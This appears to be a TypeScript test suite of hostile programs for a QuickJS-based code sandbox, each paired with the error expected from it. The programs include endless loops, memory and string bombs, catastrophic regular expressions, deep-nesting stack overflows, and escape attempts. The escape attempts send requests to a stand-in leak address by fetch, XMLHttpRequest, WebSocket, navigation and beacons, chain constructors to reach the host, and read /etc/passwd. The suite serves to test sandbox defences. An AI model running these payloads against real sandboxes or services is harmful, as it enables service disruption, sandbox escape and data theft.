import { leakAddress } from './attack.ts';
import type { Attack } from './attack.ts';

function loading(name: string, code: string, ...allowed: Attack['allowed']): Attack {
  return { name, program: `${code}\nfunction f() { return 'wrong'; }`, allowed };
}
function calling(name: string, code: string, ...allowed: Attack['allowed']): Attack {
  return { name, program: `function f(a) { ${code} }`, allowed };
}

/** Takes all the memory there is, in ever smaller parts, and goes on. */
const fill =
  'for (let s = 4 << 20; s > 0; s >>= 1) try { for (;;) kept.push(new Uint8Array(s)); } catch {} try { for (;;) kept[kept.length] = {}; } catch {}';
const fillByLinks =
  'for (let s = 4 << 20; s > 8; s >>= 1) try { for (;;) kept = [new ArrayBuffer(s), kept]; } catch {} try { for (;;) kept = { kept }; } catch {}';

/** Programs that want all of the time or all of the memory. */
export const resourcePrograms: readonly Attack[] = [
  loading('endless loop while loading', 'for (;;);', 'fuel'),
  calling('endless loop', 'while (true);', 'fuel'),
  calling('loop inside catch', 'for (;;) { try { throw 1; } catch { for (;;); } }', 'fuel'),
  calling('catches every interruption', 'for (;;) { try { for (;;); } catch {} }', 'fuel'),
  calling('loop inside finally', 'try { for (;;); } finally { for (;;); }', 'fuel'),
  calling('returns out of finally', 'for (;;) { try { for (;;); } finally { return 6; } }', 'fuel'),
  calling('loop in a promise executor', 'new Promise(() => { for (;;); }); return 6;', 'fuel'),
  calling(
    'loop in a generator',
    'const g = (function* () { try { for (;;) yield 1; } finally { for (;;); } })(); for (const x of g) break; return 6;',
    'fuel',
  ),
  calling('loop in a getter', 'return [{ get x() { for (;;); } }.x];', 'fuel'),
  calling('loop in a comparison', '[3, 2, 1].sort(() => { for (;;); });', 'fuel'),
  calling('recursion', 'return f(a) + 1;', 'stack'),
  calling('recursion with catch', 'try { return f(a) + 1; } catch { return f(a); }', 'fuel'),
  calling('recursion in toString', 'const o = { toString() { return `${o}`; } }; return `${o}`;', 'stack'),
  calling('recursion in JSON', 'let o = {}; o.toJSON = () => ({ o }); return JSON.stringify(o);', 'stack'),
  loading(
    'microtask storm',
    'const again = () => Promise.resolve().then(again); for (let i = 0; i < 100; i++) again(); (async () => { for (;;) await 0; })();',
    'failed',
  ),
  calling('catastrophic regular expression', 'return /^(a+)+$/.test("a".repeat(40) + "b");', 'fuel'),
  calling(
    'regular expression of many groups',
    'return new RegExp("(" .repeat(5e4) + ")".repeat(5e4)).test("");',
    'threw',
  ),
  calling(
    'native includes over 2^53',
    'return Array.prototype.includes.call({ length: 2 ** 53 - 1 }, 6);',
    'fuel',
  ),
  calling('fill(2^32)', 'return new Array(2 ** 32 - 1).fill(6).length;', 'memory'),
  calling('fill of an object', 'return Array.prototype.fill.call({ length: 2 ** 32 }, 6).length;', 'memory'),
  calling('replace expansion', 'let s = "x".repeat(2e4); return s.replace(/x/g, s).length;', 'memory'),
  calling(
    'replace expansion by patterns',
    'let s = "x".repeat(1e4); return s.replace(/x/g, "$`$`$`$`").length;',
    'memory',
  ),
  calling('huge BigInt power', 'return 7n ** (10n ** 9n);', 'threw'),
  calling('large BigInt powers', 'let n = 3n; for (;;) n = n * n;', 'fuel'),
  calling('BigInt to decimal', 'return (1n << 200000n).toString().length;', 'failed'),
  // One a turn, whether fuel or memory ends first would hang on where an array lies.
  calling('array bomb', 'const b = []; for (;;) b.push(b.length, b, b, b);', 'memory'),
  calling('object bomb', 'let o = {}; for (let i = 0; ; i++) o["key" + i] = { i };', 'memory'),
  calling('linked bomb', 'let o = null; for (;;) o = { o };', 'memory'),
  calling('string bomb', 'let s = "x"; for (;;) s += s;', 'threw'),
  calling('typed-array bomb', 'const b = []; for (;;) b.push(new Uint8Array(1 << 20).fill(1));', 'memory'),
  calling('one large buffer', 'return new ArrayBuffer(2 ** 31 - 1).byteLength;', 'memory'),
  calling('closure bomb', 'const b = []; for (;;) b.push(() => b);', 'memory'),
  calling(
    'catches the lack of memory',
    'for (;;) { try { const b = []; for (;;) b.push({}); } catch {} }',
    'memory',
  ),
  calling('fills memory to the last byte', `const kept = []; ${fill} return 6;`, 'memory'),
  calling(
    'fills memory, then throws what writes itself',
    `Error.prototype.toString = () => '=6'; const kept = []; ${fill} throw new Error('6');`,
    'memory',
  ),
  calling('fills memory, then recurses', `const kept = []; ${fill} return f(a) + 1;`, 'memory'),
  calling(
    'fills memory with a list of objects',
    `let kept = null; ${fillByLinks} return [6, kept];`,
    'memory',
  ),
  loading('fills memory while loading', `const kept = []; ${fill}`, 'memory'),
  {
    name: 'fills memory when its entry is looked up',
    program: `const kept = []; Object.defineProperty(globalThis, 'f', { get() { ${fill} return () => 6; } });`,
    allowed: ['memory'],
  },
  calling('sparse array', 'const b = []; b[2 ** 32 - 2] = 1; return b;', 'bad-value'),
  {
    name: '10^5 parentheses',
    program: `const f = () => ${'('.repeat(1e5)}6${')'.repeat(1e5)}`,
    allowed: ['stack'],
  },
  {
    name: '10^5 brackets',
    program: `const f = () => ${'['.repeat(1e5)}6${']'.repeat(1e5)}`,
    allowed: ['stack'],
  },
  {
    name: '10^5 operators',
    program: `const f = () => ${'!'.repeat(1e5)}6`,
    allowed: ['stack'],
  },
  {
    name: 'a megabyte of program',
    program: `${'0;\n'.repeat(3e5)}function f() { return 'wrong'; }`,
    allowed: ['failed'],
  },
  calling('deep eval', 'return eval("[".repeat(1e5));', 'stack'),
  calling('deep JSON', 'return JSON.parse("[".repeat(1e5) + "]".repeat(1e5));', 'stack'),
  calling('eval storm', 'for (;;) eval("1");', 'fuel'),
  calling(
    'nested workers',
    'for (let i = 0; i < 9; i++) new Worker("data:text/javascript,for(;;);");',
    'threw',
  ),
  calling('message flood', 'for (;;) postMessage("6");', 'threw'),
];

/** Programs that nest without end, each in another part of QuickJS: some of it checks the stack, some does not. */
const nestings: Record<string, string> = {
  'through forEach': '[1].forEach(() => f(a))',
  'through sort': '[2, 1].sort(() => f(a))',
  'through replace': '"a".replace(/a/, () => f(a))',
  'through reviver': 'return JSON.parse("[1]", () => f(a));',
  'through a getter': 'const o = { get x() { return this.x; } }; return o.x;',
  'through instanceof': 'const o = { [Symbol.hasInstance]: () => f(a) }; return 1 instanceof o;',
  'through a constructor': 'class A { a = new A(); } return new A();',
  'through a generator': 'function* g() { yield* g(); } return [...g()];',
  'through eval': 'return eval("f(a)");',
  'through Function': 'globalThis.g = () => Function("return g()")(); return g();',
  'through a tag': 'return f`x`;',
  'through try': 'try { return f(a); } finally { a = 1; }',
  'in JSON text': 'let o = 1; for (let i = 0; i < 1e5; i++) o = [o]; return JSON.stringify(o);',
  'in flat': 'let o = 1; for (let i = 0; i < 1e5; i++) o = [o]; return o.flat(Infinity);',
  'in join': 'let o = 1; for (let i = 0; i < 1e5; i++) o = [o]; return o.join();',
  'in proxies': 'let p = {}; for (let i = 0; i < 1e5; i++) p = new Proxy(p, {}); return p.x;',
  'in proxies of prototypes':
    'let p = {}; for (let i = 0; i < 1e5; i++) p = new Proxy(p, {}); return Object.getPrototypeOf(p);',
  'in proxies of classes':
    'let p = class {}; for (let i = 0; i < 1e5; i++) p = new Proxy(p, {}); return new p();',
  'in extensions of proxies':
    'let p = {}; for (let i = 0; i < 1e5; i++) p = new Proxy(p, {}); return Object.isExtensible(p);',
  'in regular expressions': 'return new RegExp("(?:".repeat(5e4) + ")".repeat(5e4)).test("");',
  'in statements': `${'if (a) '.repeat(5e3)} return 6;`,
  'in templates': `return ${'`${'.repeat(3e3)}6${'}`'.repeat(3e3)};`,
  'in calls': `return ${'f('.repeat(3e3)}6${')'.repeat(3e3)};`,
  'in assignments': `${'a = '.repeat(1e4)} 6;`,
};
/** What overflows the stack of the thread itself where the judge's own limit is too high: the verdict must be its. */
export const nestingPrograms: readonly Attack[] = Object.entries(nestings).map(([name, code]) =>
  calling(name, code, 'stack'),
);

/** Programs that want out. QuickJS has none of these; the frame's policy stands behind it. */
export const escapePrograms: readonly Attack[] = [
  calling('fetch', `return fetch('${leakAddress}/fetch').then(() => 6);`, 'threw'),
  loading('fetch while loading', `fetch('${leakAddress}/load');`, 'load-error'),
  calling(
    'XMLHttpRequest',
    `const x = new XMLHttpRequest(); x.open('GET', '${leakAddress}/xhr', false); x.send(); return 6;`,
    'threw',
  ),
  calling('WebSocket', `new WebSocket('${leakAddress.replace('http', 'ws')}/socket'); return 6;`, 'threw'),
  calling('EventSource', `new EventSource('${leakAddress}/events'); return 6;`, 'threw'),
  calling('dynamic import', `return import('${leakAddress}/import.js');`, 'bad-value'),
  calling('dynamic import of ours', 'return import("realm.js");', 'bad-value'),
  loading('static import', `import '${leakAddress}/static.js';`, 'syntax'),
  calling('importScripts', `importScripts('${leakAddress}/scripts.js'); return 6;`, 'threw'),
  calling('Function constructor', `return Function('return fetch("${leakAddress}/function")')();`, 'threw'),
  calling(
    'constructor of a constructor',
    `return f.constructor.constructor('return this')().fetch('${leakAddress}/constructor');`,
    'threw',
  ),
  calling(
    'host object of a host error',
    `try { null.x; } catch (e) { return e.constructor.constructor('return process')().mainModule; }`,
    'threw',
  ),
  calling('indirect eval', `return (0, eval)('globalThis').fetch('${leakAddress}/eval');`, 'threw'),
  calling('BroadcastChannel', `new BroadcastChannel('judge').postMessage('6'); return 6;`, 'threw'),
  calling(
    'MessageChannel',
    'const { port1 } = new MessageChannel(); port1.postMessage("6"); return 6;',
    'threw',
  ),
  calling(
    'WebRTC',
    `new RTCPeerConnection({ iceServers: [{ urls: 'stun:leak.invalid' }] }).createDataChannel('6'); return 6;`,
    'threw',
  ),
  calling('navigation', `location.href = '${leakAddress}/navigation'; return 6;`, 'threw'),
  {
    name: 'navigation by assignment',
    program: `var location = '${leakAddress}/assigned'; function f() { return location; }`,
    allowed: ['failed'],
  },
  calling('top navigation', `top.location = '${leakAddress}/top'; return 6;`, 'threw'),
  calling(
    'meta refresh',
    `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=${leakAddress}/refresh">'; return 6;`,
    'threw',
  ),
  calling(
    'form',
    `const form = document.createElement('form'); form.action = '${leakAddress}/form'; form.submit(); return 6;`,
    'threw',
  ),
  calling('image', `new Image().src = '${leakAddress}/image'; return 6;`, 'threw'),
  calling('window.open', `window.open('${leakAddress}/open'); return 6;`, 'threw'),
  calling('sendBeacon', `navigator.sendBeacon('${leakAddress}/beacon', '6'); return 6;`, 'threw'),
  calling('storage', `localStorage.setItem('judge', '6'); indexedDB.open('judge'); return 6;`, 'threw'),
  calling('modules of QuickJS', `return std.loadFile('/etc/passwd') + os.getcwd();`, 'threw'),
  calling(
    'shared memory',
    'return new SharedArrayBuffer(8).byteLength + new WebAssembly.Memory({ initial: 1 }).buffer.byteLength;',
    'threw',
  ),
];
